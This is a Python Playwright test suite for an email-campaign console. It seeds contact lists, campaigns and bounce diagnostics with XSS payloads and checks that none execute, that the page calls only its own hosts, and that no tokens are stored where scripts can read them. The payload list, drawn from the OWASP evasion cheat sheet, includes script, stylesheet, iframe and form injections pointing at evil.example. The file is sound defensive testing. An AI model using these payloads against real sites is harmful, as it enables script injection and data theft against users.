"""What others wrote runs nowhere, tokens lie nowhere, and nobody sees a verb that is not theirs."""

from __future__ import annotations

import html
import json
import secrets
from collections.abc import Callable
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import expect

from browser.desk import Desk
from integration.harness import eventually, until_over
from stack import Stack

EVIL = "evil.example"
# a stack that stands remembers whom it must not mail
RUN = secrets.token_hex(3)
EVENTS = Path(__file__).resolve().parents[1] / "contract/events/ses"
# https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html, and what
# templates in JavaScript add to it. Each would open a dialog, or ask a host that nobody named.
CORPUS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><script src=//evil.example/x.js></script>',
    "'\"><img src=//evil.example/x onerror=alert(1)>",
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "<a href=javascript:alert(1)>x</a>",
    "<math><mtext></table><img src=x onerror=alert(1)>",
    "${alert(1)}",
    "<style>@import '//evil.example/x.css';</style>",
    "<form action=//evil.example/><input name=a autofocus onfocus=alert(1)></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<object data=//evil.example/x></object><embed src=//evil.example/x>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<body onload=alert(1) background=//evil.example/x>",
    "<base href=//evil.example/>",
)


def raw(text: str) -> str:
    """Return text as a template that yields it as it is."""
    return text.replace("{", "{{ '{' }}")


@pytest.fixture(scope="module")
def poisoned(stack: Stack) -> dict[str, str]:
    """A list, a campaign and suppressions whose every text is an attack."""
    lines = ["email,name," + CORPUS[0].replace(",", "")]
    for n, attack in enumerate(CORPUS):
        quoted = attack.replace('"', '""')
        lines.append(f'mallory{n}.{RUN}@example.com,"{quoted}","{quoted}"')
    lines.append(f'"{CORPUS[1]}",x,y')
    found = stack.request(
        "POST",
        "/v1/contact-lists?name=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
        "\n".join(lines).encode(),
        content_type="text/csv",
    )
    stack.mailbox(
        "PUT",
        "/faults",
        {
            "rules": [
                {"match": {"to": f"^mallory1[.]{RUN}@"}, "action": "reject", "message": CORPUS[1]}
            ]
        },
    )
    campaign = stack.request(
        "POST",
        "/v1/campaigns",
        {
            "name": CORPUS[1],
            "list_id": found["list_id"],
            "subject": CORPUS[2],
            "body": "".join(map(raw, CORPUS)) + "{{ name }}",
        },
    )
    stack.request(
        "POST", f"/v1/campaigns/{campaign['campaign_id']}/start", {"accept_warnings": EVERY_WARNING}
    )
    until_over(stack, campaign["campaign_id"])
    stack.mailbox("DELETE", "/faults")
    for n in range(2, len(CORPUS)):
        bounce(stack, campaign["campaign_id"], n)
    eventually(
        lambda: stack.request("GET", f"/v1/campaigns/{campaign['campaign_id']}")["news"],
        lambda news: news.get("bounced", 0) == len(CORPUS) - 2,
        what="the bounces",
    )
    for attack in CORPUS:
        written = {"name": attack, "list_id": found["list_id"], "subject": raw(attack)}
        stack.request("POST", "/v1/campaigns", written | {"body": raw(attack)})
    draft = stack.request("POST", f"/v1/campaigns/{campaign['campaign_id']}/clone")
    return {
        "list": found["list_id"],
        "campaign": campaign["campaign_id"],
        "draft": draft["campaign_id"],
    }


EVERY_WARNING = [
    *("sender_identity", "dkim", "mail_from", "dmarc", "sandbox", "quota"),
    *("unsubscribe", "variables", "content", "size", "approval"),
]


def bounce(stack: Stack, campaign_id: str, n: int) -> None:
    """Let the mail to one of them bounce with a diagnostic that is an attack."""
    to = f"mallory{n}.{RUN}@example.com"
    (mail,) = stack.delivered(to=to, campaign_id=campaign_id)[-1:]
    event = json.loads((EVENTS / "bounce_permanent_general.json").read_text())
    event["bounce"]["bouncedRecipients"][0] |= {
        "emailAddress": to,
        "diagnosticCode": CORPUS[n],
    }
    tags = {name: [value] for name, value in mail["tags"].items()}
    tags["ses:configuration-set"] = [stack.outputs["ses_configuration_set"]]
    event["mail"] |= {"messageId": mail["message_id"], "tags": event["mail"]["tags"] | tags}
    topic = stack.outputs["feedback_topic_arn"]
    stack.client("sns").publish(TopicArn=topic, Message=json.dumps(event))


def test_no_text_that_others_wrote_runs_anywhere(
    poisoned: dict[str, str], sit_down: Callable[..., Desk]
) -> None:
    desk = sit_down("admin")
    campaign, draft = f"/campaigns/{poisoned['campaign']}", f"/campaigns/{poisoned['draft']}"
    for path in (
        "/campaigns",
        campaign,
        f"{campaign}/recipients",
        f"{draft}/edit",
        f"{draft}/preflight",
        "/contacts",
        f"/contacts/{poisoned['list']}",
        f"/contacts/import/{html.escape(CORPUS[1])}",
        "/suppressions",
        f"/templates/{CORPUS[1]}",
        f"/dead-letters?queue={CORPUS[1]}",
    ):
        desk.go(path)
    desk.go(f"{campaign}/recipients")
    # each bounce is there by its kind; what the other server wrote about it is not kept at all
    shown = desk.page.locator("tbody").inner_text()
    assert shown.count("Permanent general") == len(CORPUS) - 2
    assert EVIL not in shown
    assert desk.alarms == []
    assert desk.left(EVIL) == []


def test_a_preview_shows_a_mail_and_runs_nothing_of_it(
    poisoned: dict[str, str], sit_down: Callable[..., Desk]
) -> None:
    desk = sit_down("admin")
    desk.go(f"/campaigns/new?list_id={poisoned['list']}")
    desk.page.get_by_label("Subject").fill("A subject")
    message = desk.page.get_by_label("Message", exact=True)
    for n, attack in enumerate(CORPUS):
        message.fill(f"<p id=mark>shown {n}</p>{raw(attack)}")
        expect(desk.preview().locator("#mark")).to_have_text(f"shown {n}")
    desk.page.wait_for_timeout(300)
    assert desk.alarms == []
    assert desk.left(EVIL) == []


def test_the_page_talks_to_nobody_but_its_own_services(
    stack: Stack, sit_down: Callable[..., Desk]
) -> None:
    desk = sit_down("admin")
    for path in ("/campaigns", "/contacts", "/account"):
        desk.go(path)
    desk.page.wait_for_load_state("networkidle")
    own = {urlsplit(url).netloc for url in [*stack.outputs["console_urls"], desk.url]}
    assert {urlsplit(url).netloc for url in desk.asked} <= own


def test_no_token_lies_where_a_script_could_find_it_later(sit_down: Callable[..., Desk]) -> None:
    desk = sit_down("admin")
    desk.go("/campaigns/new")
    desk.page.get_by_label("Subject").fill("kept")
    kept = desk.page.evaluate("() => JSON.stringify([{...localStorage}, {...sessionStorage}])")
    assert "eyJ" not in kept
    assert "kept" in kept
    own = [c for c in desk.page.context.cookies() if "execute-api" in str(c.get("domain"))]
    assert own == []
    assert desk.page.evaluate("() => document.cookie") == ""


def test_what_was_typed_survives_a_new_sign_in(
    sit_down: Callable[..., Desk], person: Callable[[str], tuple[str, str]]
) -> None:
    desk = sit_down("editor")
    desk.go("/campaigns/new")
    desk.page.get_by_label("Subject").fill("Half a sentence")
    desk.sign_in(*person("editor"))
    desk.go("/campaigns/new")
    expect(desk.page.get_by_label("Subject")).to_have_value("Half a sentence")


def test_a_viewer_sees_no_verb(sit_down: Callable[..., Desk], poisoned: dict[str, str]) -> None:
    desk = sit_down("viewer")
    for path in ("/campaigns", "/contacts", "/suppressions", f"/contacts/{poisoned['list']}"):
        desk.go(path)
        verbs = desk.page.locator("main :is(button, a.button)").all_inner_texts()
        assert set(verbs) <= {"Save as CSV", "Save the rejected rows", "Back", "Next"}, path


def test_somebody_without_a_role_is_told_whom_to_ask(
    sit_down: Callable[..., Desk],
    browser: object,
    console_url: str,
    person: Callable[[str], tuple[str, str]],
) -> None:
    desk = sit_down("viewer")
    desk.page.get_by_role("button", name="Sign out").click()
    desk.page.goto(console_url)
    desk.page.get_by_role("button", name="Sign in").click()
    name, password = person("nobody")
    desk.page.fill("#username", name)
    desk.page.fill("#password", password)
    desk.page.press("#password", "Enter")
    expect(desk.page.get_by_role("heading", name="No role yet")).to_be_visible()


def test_a_sign_in_that_was_not_begun_here_is_refused(
    sit_down: Callable[..., Desk], console_url: str
) -> None:
    page = sit_down("viewer").page
    page.goto(f"{console_url}?code=stolen&state=guessed")
    expect(page.get_by_role("alert")).to_contain_text("not begun in this tab")
    assert json.loads(page.evaluate("() => JSON.stringify({...sessionStorage})")) == {}
